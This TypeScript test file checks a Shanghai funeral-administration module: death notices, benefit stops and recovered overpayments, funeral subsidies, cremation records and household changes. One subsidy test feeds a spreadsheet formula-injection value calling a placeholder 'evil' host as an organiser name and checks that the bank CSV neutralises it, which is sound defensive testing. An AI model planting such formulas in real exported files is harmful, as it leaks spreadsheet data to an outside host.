/**
 * 身故一件事 end to end on the services: one death reported by the hospital and the police, every module's answer on
 * the checklist with the money to recover, a replayed death that changes nothing, an overdue item, the notice,
 * the basic funeral subsidy's 980-yuan cap and once-only rule, the eco-burial share, and bad input refused.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { emit, dispatchOutbox, type CoreTables } from '../db/index.js';
import { admit, createFacility } from '../eldercare/index.js';
import type { EldercareTables } from '../eldercare/model.js';
import { makeIdNumber } from '../kernel/index.js';
import { addMember, changePersons, registerPerson } from '../registry/index.js';
import { newPerson, TEST_COMMITTEES } from '../registry/testing.js';
import { funeralHandlers } from './handlers.js';
import { getDeath, listDeaths, reportDeath, tickItem } from './deaths.js';
import { cremationOf, recordCremation } from './cremations.js';
import { funeralFigures } from './figures.js';
import type { FuneralTables } from './model.js';
import { renderNotice } from './notice.js';
import { applySubsidy, subsidyBankFile } from './subsidies.js';
import { addPlots, addPrice, createUnit, recordBurial } from './units.js';
import { openFuneralWorld, type FuneralWorld } from './testing.js';

let w: FuneralWorld;
let person: { personId: number; householdId: number; idNumber: string };
let caseId: number;
let deathId: number;
let homeId: number;
let bedId: number;

const db = () => w.t.db.kysely;
const funeralDb = () => db().withTables<FuneralTables>();
const count = async (table: string) => Number((await w.t.ownerQuery<{ n: string }>(`select count(*) as n from ${table}`))[0]?.n);

beforeAll(async () => {
  w = await openFuneralWorld();
  person = await w.register({ birthDate: '1948-06-01' });
  caseId = await w.destituteCase(person, '2025-02');
  // The person lives in a care home (a private bed; the basic-guarantee beds go through the waitlist).
  const home = await createFacility(w.deps, w.users.pudong, { kind: 'institution', name: '潍坊敬老院', ownership: 'public', divisionCode: '310115004000', beds: [{ bedType: 'ordinary', count: 2, basicGuarantee: false }] });
  bedId = (await db().withTables<EldercareTables>().selectFrom('eldercare.beds').select('id').where('facility_id', '=', home.id).orderBy('id').executeTakeFirstOrThrow()).id;
  await admit(w.deps, w.users.weifang, { bedId, personId: person.personId, admittedOn: '2025-02-01' });
  await w.dispatch();
  // March and April are paid before anyone knows of the death on 15 March.
  await w.pay('2025-03');
  await w.pay('2025-04');
  await w.dispatch();
  const unit = await createUnit(w.funeral, w.users.pudong, {
    kind: 'funeral_home',
    name: '浦东殡仪馆',
    divisionCode: '310115000000',
    licenceNumber: '沪殡证001',
    licenceCheckedYear: 2025,
    capacity: { cremators: { flat: 4, advanced: 2 }, coldStorage: 60, halls: 6 },
  });
  homeId = unit.id;
}, 180_000);
afterAll(async () => w?.close());

describe('one death, many notices, every module acts', () => {
  it('records the hospital notice as the death, fans it out, and the police notice attaches to it', async () => {
    const first = await reportDeath(w.funeral, w.users.weifang, { idNumber: person.idNumber, source: 'hospital', proofNumber: 'YX2025-0315-01', deathDate: '2025-03-15' });
    deathId = first.id;
    expect(first).toMatchObject({ personId: person.personId, deathDate: '2025-03-15', source: 'hospital', notices: [{ source: 'hospital', status: 'first' }] });
    await w.dispatch();
    const police = await reportDeath(w.funeral, w.users.weifang, { idNumber: person.idNumber, source: 'police', proofNumber: 'GA-77', deathDate: '2025-03-15' });
    expect(police.id).toBe(deathId);
    expect(police.notices.map((n) => [n.source, n.status])).toEqual([
      ['hospital', 'first'],
      ['police', 'attached'],
    ]);
    // A notice with another date goes to review; it never makes a second death.
    const other = await reportDeath(w.funeral, w.users.weifang, { idNumber: person.idNumber, source: 'collection', deathDate: '2025-03-16' });
    expect(other.notices.at(-1)).toMatchObject({ source: 'collection', status: 'review' });
    expect(await count('funeral.deaths')).toBe(1);
    // The retried hospital notice (same proof number) is recorded once.
    await reportDeath(w.funeral, w.users.weifang, { idNumber: person.idNumber, source: 'hospital', proofNumber: 'YX2025-0315-01', deathDate: '2025-03-15' });
    expect(await count('funeral.notices')).toBe(3);
  });

  it('shows each module’s answer: the case stopped from April with April to recover, the allowance likewise, the bed freed', async () => {
    const death = await getDeath(w.funeral, w.users.weifang, deathId);
    const item = (key: string) => death.checklist.find((i) => i.key === key);
    // 特困 case: stops from the month after the death (2025-04); April was paid, so April is overpaid.
    const april = await w.t.ownerQuery<{ fen: number }>(`select amount_fen as fen from assistance.payments where case_id = $1 and month = '2025-04' and status = 'paid'`, [caseId]);
    expect(april).toHaveLength(1);
    const aprilFen = Number(april[0]?.fen);
    expect(aprilFen).toBeGreaterThan(0);
    expect(item('assistance')).toMatchObject({ status: 'done', recoverFen: aprilFen });
    expect(item('assistance')?.answer).toContain('自 2025-04 起终止，已发放的 2025-04 共 1 个月');
    const stop = await w.t.ownerQuery<{ payload: Record<string, unknown> }>(`select payload from assistance.case_actions where case_id = $1 and action = 'stop'`, [caseId]);
    expect(stop[0]?.payload).toMatchObject({ effectiveMonth: '2025-04', overpaidMonths: ['2025-04'], overpaidFen: aprilFen });
    // 老年综合津贴 (75 in 2025: 150 yuan a month in the 75–79 band): stopped from April, April's paid month to recover.
    const allowance = await w.t.ownerQuery<{ fen: number }>(`select amount_fen as fen from monitoring.allowance_payments where person_id = $1 and month = '2025-04'`, [person.personId]);
    expect(allowance).toHaveLength(1);
    expect(item('monitoring')).toMatchObject({ status: 'done', recoverFen: Number(allowance[0]?.fen) });
    expect(item('monitoring')?.answer).toContain('自 2025-04 起停发');
    expect(item('eldercare')?.answer).toContain(`床位 ${bedId} 已腾空`);
    const bed = await db().withTables<EldercareTables>().selectFrom('eldercare.beds').select('status').where('id', '=', bedId).executeTakeFirstOrThrow();
    expect(bed.status).toBe('free');
    expect(item('registry')).toMatchObject({ status: 'done' });
    expect(death.recoverFen).toBe(aprilFen + Number(allowance[0]?.fen));
    // The stop was published for the rosters (eldercare's priority, the funeral subsidy's eligibility).
    expect(await w.t.ownerQuery(`select id from core.outbox where topic = 'assistance.case.stopped'`)).toHaveLength(1);
  });

  it('changes nothing when the death is delivered again (replayOf)', async () => {
    const before = {
      actions: await count('assistance.case_actions'),
      stopped: await count(`core.outbox where topic = 'assistance.case.stopped'`),
      decisions: await count('monitoring.benefit_decisions'),
      stays: await count('eldercare.stays where discharged_on is not null'),
      settlements: JSON.stringify(await funeralDb().selectFrom('funeral.settlements').selectAll().orderBy('module').execute()),
    };
    const original = await w.t.ownerQuery<{ id: number; payload: Record<string, unknown> }>(`select id, payload from core.outbox where topic = 'registry.person.died'`);
    await emit(db().withTables<CoreTables>(), { topic: 'registry.person.died', key: String(person.personId), payload: { ...original[0]?.payload, replayOf: Number(original[0]?.id) } });
    await w.dispatch();
    expect({
      actions: await count('assistance.case_actions'),
      stopped: await count(`core.outbox where topic = 'assistance.case.stopped'`),
      decisions: await count('monitoring.benefit_decisions'),
      stays: await count('eldercare.stays where discharged_on is not null'),
      settlements: JSON.stringify(await funeralDb().selectFrom('funeral.settlements').selectAll().orderBy('module').execute()),
    }).toEqual(before);
    // The modules answered the replay "nothing to do", and the first answers stand.
    expect(await w.t.ownerQuery(`select id from core.outbox where topic = 'assistance.death.settled'`)).toHaveLength(2);
  });

  it('puts an unanswered automatic item overdue after 24 hours, first on the desk, and completes when all is done', async () => {
    const other = await w.register({ birthDate: '1950-01-01' });
    await reportDeath(w.funeral, w.users.weifang, { idNumber: other.idNumber, source: 'caseworker', deathDate: '2025-04-01', note: '居家死亡，社工上门核实' });
    // Only the funeral desk hears of it: the modules have not answered yet.
    await dispatchOutbox(db(), funeralHandlers);
    w.clock.set(new Date('2025-04-11T03:00:00Z'));
    const desk = await listDeaths(w.funeral, w.users.weifang);
    expect(desk.items[0]?.personId).toBe(other.personId);
    expect(desk.items[0]?.checklist.filter((i) => i.status === 'overdue').map((i) => i.key)).toEqual(['assistance', 'monitoring', 'eldercare', 'marriage', 'children']);
    await w.dispatch();
    let view = await getDeath(w.funeral, w.users.weifang, desk.items[0]?.id as number);
    expect(view.checklist.find((i) => i.key === 'assistance')?.answer).toBe('无在办救助案件，无需处理');
    await expect(tickItem(w.funeral, w.users.weifang, view.id, 'assistance', { note: 'x' })).rejects.toMatchObject({ code: 'FUNERAL_ITEM_AUTOMATIC' });
    await expect(tickItem(w.funeral, w.users.weifang, view.id, 'pension', { note: ' ' })).rejects.toMatchObject({ code: 'FUNERAL_NOTE_REQUIRED' });
    for (const item of view.checklist.filter((i) => i.kind === 'manual')) view = await tickItem(w.funeral, w.users.weifang, view.id, item.key, { note: '家属已办结（测试）' });
    expect(view.completedAt).not.toBeNull();
    // Another street sees none of it.
    await expect(getDeath(w.funeral, w.users.xuhui, view.id)).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  it('writes the notice to the organiser with deadlines, the amount to return and no unconfigured grant amount', async () => {
    const notice = renderNotice(await getDeath(w.funeral, w.users.weifang, deathId));
    const text = Object.fromEntries(notice.lines.map((l) => [l.label, l.text]));
    // 沪公发〔2008〕83号: within 15 days of 2025-03-15 → 2025-03-30.
    expect(text.户籍注销).toContain('2025-03-30');
    expect(text.丧葬补助金).toBe('以社保经办机构核定为准');
    expect(text.基本殡葬服务补贴).toContain('最高 980.00 元');
    expect(text.应退回款项).toContain('2025-04');
    expect(notice.html).toContain('<h1>');
  });
});

describe('funeral subsidies', () => {
  it('pays the basic funeral subsidy at cost up to 980 yuan, once per deceased', async () => {
    // Four items: 300 + 250 (5 days cold storage) + 400 (flat-bed furnace) + 300 (ash storage) = 1,250 yuan > 980 → 980.
    await recordCremation(w.funeral, w.users.weifang, deathId, {
      unitId: homeId,
      collectedOn: '2025-03-15',
      crematedOn: '2025-03-19',
      furnace: 'flat',
      certificateNumber: 'HH-2025-0319',
      storageDays: 4,
      costFen: { transport: 30_000, storage: 25_000, cremation: 40_000, ash_storage: 30_000 },
    });
    const subsidy = await applySubsidy(w.funeral, w.users.weifang, { deathId, kind: 'basic', organiserName: '王小明', bankAccount: '6222020000000001' });
    expect(subsidy).toMatchObject({ amountFen: 98_000, costFen: 125_000, grounds: '特困供养人员', status: 'approved', bankAccountMasked: '6222****0001' });
    await expect(applySubsidy(w.funeral, w.users.weifang, { deathId, kind: 'basic', organiserName: '王小明', bankAccount: '6222020000000001' })).rejects.toMatchObject({ code: 'FUNERAL_SUBSIDY_EXISTS' });
    const file = await subsidyBankFile(w.funeral, w.users.pudong, { dueBy: '2025-04-11' });
    expect(file).toMatchObject({ count: 1, totalFen: 98_000 });
    expect(file.csv).toContain('王小明,6222020000000001,980.00,基本殡葬服务补贴');
    expect((await subsidyBankFile(w.funeral, w.users.pudong, { dueBy: '2025-04-11' })).count).toBe(0);
  });

  it('pays an unregistered person’s subsidy below the cap on a proven ground, and a sea burial 60 working days on', async () => {
    const idNumber = makeIdNumber('310115', '1940-02-02', 11);
    const death = await reportDeath(w.funeral, w.users.weifang, { idNumber, name: '赵无籍', source: 'police', proofNumber: 'GA-99', deathDate: '2025-04-02', divisionCode: '310115004000' });
    expect(death).toMatchObject({ personId: null, name: '赵无籍', checklist: expect.not.arrayContaining([expect.objectContaining({ kind: 'auto' })]) });
    await recordCremation(w.funeral, w.users.weifang, death.id, { unitId: homeId, collectedOn: '2025-04-02', crematedOn: '2025-04-04', furnace: 'flat', storageDays: 2, costFen: { transport: 20_000, storage: 10_000, cremation: 15_000 } });
    await expect(applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'basic', organiserName: '赵一', bankAccount: '6222020000000002' })).rejects.toMatchObject({ code: 'FUNERAL_NOT_ELIGIBLE' });
    // The organiser's name is typed by staff; written like a formula (SECURITY-TESTS IV-04) it must reach the bank file as text.
    const hostile = '=HYPERLINK("http://evil/?"&A1,"x")';
    const basic = await applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'basic', organiserName: hostile, bankAccount: '6222020000000002', ground: 'no_insurance_grant', groundProof: '社保中心未享受丧葬补助金证明' });
    expect(basic.amountFen).toBe(45_000);
    // Sea burial on Friday 2025-04-04: 3,000 + 1,600 yuan, paid 60 working days on. Weekends alone would give Fri 06-27;
    // the State Council's 2025 calendar takes away 05-01, 05-02, 05-05 (劳动节) and 06-02 (端午节) and adds Sunday 04-27
    // (调休上班): 3 working days more → Wed 2025-07-02.
    const sea = await applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'sea', organiserName: '赵一', bankAccount: '6222020000000002', ceremonyDate: '2025-04-04' });
    expect(sea).toMatchObject({ amountFen: 460_000, payableOn: '2025-07-02' });
    await expect(applySubsidy(w.funeral, w.users.weifang, { deathId: death.id, kind: 'tree', organiserName: '赵一', bankAccount: '6222020000000002', ceremonyDate: '2025-04-04' })).rejects.toMatchObject({
      code: 'FUNERAL_SUBSIDY_NOT_CONFIGURED',
    });
    const file = await subsidyBankFile(w.funeral, w.users.pudong, { dueBy: '2025-04-30' });
    expect(file.csv).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")",6222020000000002,450.00,基本殡葬服务补贴`);
  });
});

describe('units, plots and figures', () => {
  it('computes the eco-burial share from plots in commercial cemeteries', async () => {
    const cemetery = await createUnit(w.funeral, w.users.pudong, { kind: 'cemetery_commercial', name: '浦东福寿园', divisionCode: '310115004000', licenceNumber: '沪殡证010', licenceCheckedYear: 2025 });
    await addPlots(w.funeral, w.users.pudong, cemetery.id, { burialType: 'lawn', areaM2: 0.5, newArea: true, count: 9 });
    await addPlots(w.funeral, w.users.pudong, cemetery.id, { burialType: 'traditional', areaM2: 1.2, newArea: true, count: 1 });
    await addPlots(w.funeral, w.users.pudong, cemetery.id, { burialType: 'wall', areaM2: 0.3, newArea: false, count: 1 });
    for (let i = 0; i < 9; i++) await recordBurial(w.funeral, w.users.pudong, cemetery.id, { burialType: 'lawn', buriedOn: '2025-04-05' });
    await recordBurial(w.funeral, w.users.pudong, cemetery.id, { burialType: 'traditional', buriedOn: '2025-04-05' });
    const unit = await recordBurial(w.funeral, w.users.pudong, cemetery.id, { burialType: 'wall', buriedOn: '2025-04-05' });
    expect(unit.plots.find((p) => p.burialType === 'lawn')).toMatchObject({ total: 9, free: 0, smallNew: 9 });
    const priced = await addPrice(w.funeral, w.users.pudong, cemetery.id, { item: '草坪葬穴位', category: 'guided', priceFen: 1_500_000, fromDate: '2025-01-01' });
    expect(priced.prices).toEqual([expect.objectContaining({ item: '草坪葬穴位', category: 'guided', priceFen: 1_500_000 })]);
    // Plan indicator 15: new-area plots ≤ 0.6 m² over all burials: 9 ÷ 11 = 81.8 % against 90 %.
    const figures = await funeralFigures(w.funeral, w.users.pudong, { year: 2025 });
    expect(figures.ecoBurial).toEqual({ small: 9, total: 11, percent: 81.8, targetPercent: 90 });
    expect(figures.deathsBySource).toEqual(expect.arrayContaining([{ source: 'hospital', count: 1 }]));
    // Both basic subsidies (980 + 450 yuan) went out in bank files above, so all 1,430 yuan is paid.
    expect(figures.subsidies.find((s) => s.kind === 'basic')).toMatchObject({ count: 2, amountFen: 143_000, paidFen: 143_000 });
    // Three deaths so far: only the second has every item done (the other two still have manual items open).
    expect(figures.checklists).toMatchObject({ complete: 1, open: 2 });
  });
});

describe('bad input', () => {
  it('refuses with a code and a Chinese message, and changes nothing', async () => {
    const before = [await count('funeral.deaths'), await count('funeral.notices'), await count('funeral.prices'), await count('funeral.subsidies'), await count('funeral.cremations')];
    const good = person.idNumber;
    const badCheck = good.slice(0, 17) + (good[17] === '1' ? '2' : '1');
    await expect(reportDeath(w.funeral, w.users.weifang, { idNumber: badCheck, source: 'caseworker', deathDate: '2025-03-15' })).rejects.toMatchObject({
      code: 'FUNERAL_INVALID_ID_NUMBER',
      message: expect.stringContaining('身份证号码有误'),
    });
    await expect(reportDeath(w.funeral, w.users.weifang, { idNumber: good, source: 'caseworker', deathDate: '2025-05-01' })).rejects.toMatchObject({ code: 'FUNERAL_FUTURE_DATE' });
    await expect(reportDeath(w.funeral, w.users.weifang, { idNumber: good, source: 'caseworker', deathDate: '1948-05-31' })).rejects.toMatchObject({ code: 'FUNERAL_DEATH_BEFORE_BIRTH' });
    await expect(reportDeath(w.funeral, w.users.weifang, { idNumber: good, source: 'hospital', deathDate: '2025-03-15' })).rejects.toMatchObject({ code: 'FUNERAL_PROOF_REQUIRED' });
    const living = await w.register({ birthDate: '1960-01-01' });
    await expect(applySubsidy(w.funeral, w.users.weifang, { personId: living.personId, kind: 'basic', organiserName: '某', bankAccount: '6222020000000003' })).rejects.toMatchObject({ code: 'FUNERAL_PERSON_NOT_DEAD' });
    const fresh = await reportDeath(w.funeral, w.users.weifang, { idNumber: living.idNumber, source: 'caseworker', deathDate: '2025-04-09' });
    await expect(recordCremation(w.funeral, w.users.weifang, fresh.id, { unitId: 999_999, collectedOn: '2025-04-09', furnace: 'flat', storageDays: 1, costFen: {} })).rejects.toMatchObject({ code: 'FUNERAL_UNIT_NOT_FOUND' });
    await expect(addPrice(w.funeral, w.users.pudong, homeId, { item: '火化', category: 'government', priceFen: -1, fromDate: '2025-01-01' })).rejects.toMatchObject({ code: 'FUNERAL_INVALID_PRICE' });
    await expect(getDeath(w.funeral, w.users.leader, deathId)).rejects.toMatchObject({ code: 'ACCESS_PERMISSION_DENIED' });
    expect([await count('funeral.deaths'), await count('funeral.notices'), await count('funeral.prices'), await count('funeral.subsidies'), await count('funeral.cremations')]).toEqual([
      before[0] + 1,
      before[1] + 1,
      before[2],
      before[3],
      before[4],
    ]);
  });
});

describe('cremation records', () => {
  it('keeps the collection form, the ashes (15 days to pick up, storage at most one year) and a cross-province transport certificate', async () => {
    const someone = await w.register({ birthDate: '1945-01-01' });
    const death = await reportDeath(w.funeral, w.users.weifang, { idNumber: someone.idNumber, source: 'caseworker', deathDate: '2025-04-01' });
    const base = { unitId: homeId, collectedOn: '2025-04-01', crematedOn: '2025-04-03', furnace: 'flat' as const, storageDays: 2, costFen: {} };
    // Storage from 2025-04-03 for one year ends 2026-04-03 at the latest; a day more is refused, as is a pickup before the cremation.
    await expect(recordCremation(w.funeral, w.users.weifang, death.id, { ...base, ashes: { disposition: 'stored', on: '2025-04-03', until: '2026-04-04' } })).rejects.toMatchObject({
      code: 'FUNERAL_ASHES_STORAGE_TOO_LONG',
      message: expect.stringContaining('2026-04-03'),
    });
    await expect(recordCremation(w.funeral, w.users.weifang, death.id, { ...base, ashes: { disposition: 'pickup', on: '2025-04-02' } })).rejects.toMatchObject({ code: 'FUNERAL_INVALID_DATE' });
    await expect(recordCremation(w.funeral, w.users.weifang, death.id, { ...base, crematedOn: undefined, ashes: { disposition: 'pickup', on: '2025-04-03' } })).rejects.toMatchObject({ code: 'FUNERAL_ASHES_BEFORE_CREMATION' });
    await expect(recordCremation(w.funeral, w.users.weifang, death.id, { ...base, transport: { certificateNumber: 'YS-1', destination: ' ' } })).rejects.toMatchObject({ code: 'FUNERAL_TRANSPORT_INCOMPLETE' });
    expect(await cremationOf(w.funeral, death.id)).toBeNull();
    await recordCremation(w.funeral, w.users.weifang, death.id, {
      ...base,
      collectionAddress: '浦东新区潍坊路 1 号',
      familySigner: '李家属',
      ashes: { disposition: 'stored', on: '2025-04-03', until: '2026-04-03' },
      transport: { certificateNumber: 'YS-2025-001', destination: '江苏省南通市' },
    });
    expect(await cremationOf(w.funeral, death.id)).toMatchObject({
      collectionAddress: '浦东新区潍坊路 1 号',
      familySigner: '李家属',
      ashes: { disposition: 'stored', on: '2025-04-03', until: '2026-04-03' },
      ashesDueBy: null,
      transport: { certificateNumber: 'YS-2025-001', destination: '江苏省南通市' },
    });
    // Ashes not yet picked up: the last day is 15 days after the cremation (便民问答 2024-10-21): 2025-04-03 + 15 = 2025-04-18.
    const other = await w.register({ birthDate: '1944-01-01' });
    const second = await reportDeath(w.funeral, w.users.weifang, { idNumber: other.idNumber, source: 'caseworker', deathDate: '2025-04-01' });
    await recordCremation(w.funeral, w.users.weifang, second.id, base);
    expect(await cremationOf(w.funeral, second.id)).toMatchObject({ ashes: null, ashesDueBy: '2025-04-18', transport: null });
  });
});

describe('the household after a death', () => {
  it('ends the membership the day after the death and puts 变更户主 on the checklist when the head leaves others behind', async () => {
    const head = await w.register({ birthDate: '1946-05-05' });
    const spouse = await registerPerson(w.registry, w.vault, w.users.pudong, newPerson({ birthDate: '1949-09-09', sex: 'F', residenceDivision: TEST_COMMITTEES.weifang1 }));
    await addMember(w.registry, w.users.pudong, head.householdId, { personId: spouse.id, relation: 'spouse', since: '2000-01-01' });
    const death = await reportDeath(w.funeral, w.users.weifang, { idNumber: head.idNumber, source: 'caseworker', deathDate: '2025-04-05' });
    await w.dispatch();
    // A member is in the household on day D when since <= D < until: the head still counts on 04-05, no longer on 04-06.
    const members = await w.t.ownerQuery<{ person_id: string; until: string | null }>(`select person_id, to_char(until, 'YYYY-MM-DD') as until from registry.household_members where household_id = $1 order by person_id`, [head.householdId]);
    expect(members.map((m) => [Number(m.person_id), m.until])).toEqual([
      [head.personId, '2025-04-06'],
      [spouse.id, null],
    ]);
    const view = await getDeath(w.funeral, w.users.weifang, death.id);
    expect(view.checklist.find((i) => i.key === 'registry')?.answer).toContain(`家庭 ${head.householdId} 已无户主`);
    expect(view.checklist.find((i) => i.key === 'household_head')).toMatchObject({ kind: 'manual', status: 'pending' });
    // A head who lived alone leaves no household behind: no such item (the first death of this file).
    expect((await getDeath(w.funeral, w.users.weifang, deathId)).checklist.some((i) => i.key === 'household_head')).toBe(false);
    // Delivered again, the item is not added twice.
    const original = await w.t.ownerQuery<{ id: number; payload: Record<string, unknown> }>(`select id, payload from core.outbox where topic = 'registry.person.died' and key = $1`, [String(head.personId)]);
    await emit(db().withTables<CoreTables>(), { topic: 'registry.person.died', key: String(head.personId), payload: { ...original[0]?.payload, replayOf: Number(original[0]?.id) } });
    await w.dispatch();
    expect((await getDeath(w.funeral, w.users.weifang, death.id)).checklist.filter((i) => i.key === 'household_head')).toHaveLength(1);
  });
});

describe('public security’s deaths through the data exchange', () => {
  it('files them as police notices on the one path: first, re-sent the same, after a hospital notice attached or to review', async () => {
    const a = await w.register({ birthDate: '1941-01-01' });
    const exchange = (personId: number, deathDate: string, proofNumber: string) => changePersons(w.registry, w.users.pudong, { reference: 'exchange-test', changes: [{ kind: 'death', personId, deathDate, source: 'police', proofNumber }] });
    expect(await exchange(a.personId, '2025-04-06', 'GA-EX-1')).toEqual(['recorded']);
    await w.dispatch();
    const first = (await listDeaths(w.funeral, w.users.weifang, { status: 'all' })).items.find((d) => d.personId === a.personId);
    expect(first).toMatchObject({ source: 'police', notices: [{ source: 'police', proofNumber: 'GA-EX-1', status: 'first', deathDate: '2025-04-06' }] });
    // The batch sent again: the registry answers "already dead", the notice is the same one.
    expect(await exchange(a.personId, '2025-04-06', 'GA-EX-1')).toEqual([expect.objectContaining({ code: 'REGISTRY_PERSON_ALREADY_DEAD' })]);
    await w.dispatch();
    expect((await getDeath(w.funeral, w.users.weifang, first?.id as number)).notices).toHaveLength(1);
    // A hospital notice first, then the police's with another date: filed for review, never a second death.
    const b = await w.register({ birthDate: '1942-02-02' });
    const hospital = await reportDeath(w.funeral, w.users.weifang, { idNumber: b.idNumber, source: 'hospital', proofNumber: 'YX-B', deathDate: '2025-04-07' });
    await w.dispatch();
    await exchange(b.personId, '2025-04-08', 'GA-EX-2');
    await exchange(b.personId, '2025-04-07', 'GA-EX-3');
    await w.dispatch();
    expect((await getDeath(w.funeral, w.users.weifang, hospital.id)).notices.map((n) => [n.source, n.proofNumber, n.status])).toEqual([
      ['hospital', 'YX-B', 'first'],
      ['police', 'GA-EX-2', 'review'],
      ['police', 'GA-EX-3', 'attached'],
    ]);
  });
});
